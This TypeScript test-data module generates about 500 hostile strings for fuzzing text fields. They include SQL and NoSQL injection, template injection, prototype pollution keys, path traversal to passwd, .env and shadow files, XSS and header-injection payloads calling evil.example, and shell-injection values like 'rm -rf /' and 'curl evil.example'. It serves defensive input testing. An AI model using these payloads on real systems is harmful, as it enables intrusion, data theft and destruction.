import { product } from './product.ts';

const sql = product(
  ["'", '"', "\\'", '%27', "') ", '1; ', '$$ ', "' || ", '%22', ') or ('],
  [
    'or 1=1',
    'drop table identity.account',
    'union select null',
    'select pg_sleep(9)',
    'delete from request.event',
  ],
  ['--', ';', '/*', " or '1'='1"],
);
const documents = product(
  [
    '{"$gt":""}',
    '{"$where":"sleep(9)"}',
    '[$ne]=1',
    '{"$regex":".*"}',
    '{{7*7}}',
    '${7*7}',
    '<%= 7 %>',
    '#{7}',
  ],
  ['', ' ', '//', ' and a tap that drips'],
);
const prototypes = product(
  ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'],
  ['', '.polluted', '[polluted]', '.prototype.polluted', '=1'],
);
const paths = product(
  ['../', '..\\', '%2e%2e/', '....//', '/etc/', 'file:///', 'C:\\'],
  ['passwd', 'win.ini', '.env', 'app/../../etc/shadow'],
  ['', '%00', '\u0000.png'],
);
const markup = product(
  ['<script>', '<img src=x onerror=', '"><svg onload=', "'-", 'javascript:', '<iframe srcdoc='],
  ['alert(1)', 'fetch("//evil.example")'],
  ['', '</script>', '>', '//'],
);
const lines = product(
  ['a', 'tap'],
  ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085'],
  ['Set-Cookie: a=1', 'Location: //evil.example', 'X: y\r\n\r\n<html>'],
);
const shells = product(
  ['; ', '| ', '`', '$(', '&& '],
  ['id', 'rm -rf /', 'curl evil.example'],
  ['', '`', ')'],
);
const numbers = [
  'NaN',
  '-1',
  '1e309',
  '0x10',
  '٣',
  '１２',
  '1_000',
  '9007199254740993',
  'null',
  'undefined',
  'true',
];
const odd = [
  '\u0000',
  '\uD800',
  '\uDFFF',
  '\uFEFF',
  '\u202E',
  '\u0007',
  '\u001B[31m',
  'ﷺ'.repeat(40),
  'a'.repeat(3000),
  '\u0301'.repeat(200),
  '🧑‍🔧'.repeat(60),
  'İ',
  'ß',
  'ﬃ',
  '\u200B\u200B',
];

/** Five hundred texts for any text field. */
export const hostileWords: readonly string[] = [
  ...odd,
  ...numbers,
  ...sql,
  ...documents,
  ...prototypes,
  ...paths,
  ...markup,
  ...lines,
  ...shells,
].slice(0, 500);
